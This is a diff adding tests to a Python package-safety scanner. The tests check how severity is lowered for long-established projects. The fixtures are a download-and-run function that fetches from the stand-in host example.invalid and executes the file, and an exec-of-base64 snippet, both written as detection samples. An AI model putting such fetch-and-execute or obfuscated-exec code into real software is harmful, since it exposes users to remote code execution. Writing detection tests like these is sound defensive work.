@@ -3,9 +3,10 @@
 from __future__ import annotations
 
 from jupyter_safepip.core.checks import names
-from jupyter_safepip.core.checks.corroborate import CORROBORATIONS, corroborate, temper_names
+from jupyter_safepip.core.checks.corroborate import CORROBORATIONS, corroborate, temper_library, temper_names
 from jupyter_safepip.core.checks.metadata import RULES as META_RULES
 from jupyter_safepip.core.model import Evidence, Finding, Severity
+from tests.support.archives import scan_wheel
 
 
 def new_project(package: str) -> Finding:
@@ -43,3 +44,25 @@ def test_look_alike_findings_on_an_established_project_are_one_level_lower():
     assert (same_hint, same_combo, same_other) == (hint, combo, other)  # not blocking, or not about the name
     assert combo.severity == Severity.MEDIUM  # a warning stays a warning
     assert temper_names([typo], None) == (typo,)
+
+
+def test_library_behaviour_of_an_established_project_is_reported_not_weighed(tmp_path):
+    download_and_run = ("import os, urllib.request\ndef flamegraph(path):\n"
+                        "    urllib.request.urlretrieve('https://example.invalid/fg.pl', path)\n"
+                        "    os.chmod(path, 0o755)\n    os.system(path)\n")
+    library = scan_wheel(tmp_path / "lib", {"demo/viz.py": download_and_run}).findings
+    at_import = scan_wheel(tmp_path / "imp", {"demo/__init__.py": download_and_run + "flamegraph('x')\n"}).findings
+    worst = max(f.severity for f in library)
+    assert worst >= Severity.HIGH  # a young project: the flow is a verdict
+    settled = "on the index since 2019-01-01, 40 releases"
+    assert max(f.severity for f in temper_library(library, settled)) <= Severity.LOW
+    assert max(f.severity for f in temper_library(library, None)) == worst
+    # the same flow at import time keeps its weight in any project
+    assert max(f.severity for f in temper_library(at_import, settled)) >= Severity.HIGH
+
+
+def test_hiding_in_library_code_of_an_established_project_still_weighs(tmp_path):
+    hidden = "import base64\ndef run():\n    exec(base64.b64decode('cHJpbnQoMSk='))\n"
+    findings = scan_wheel(tmp_path, {"demo/mod.py": hidden}).findings
+    tempered = {f.rule_id: f.severity for f in temper_library(findings, "on the index since 2019-01-01, 40 releases")}
+    assert tempered["obfuscation-exec-decoded"] == Severity.MEDIUM
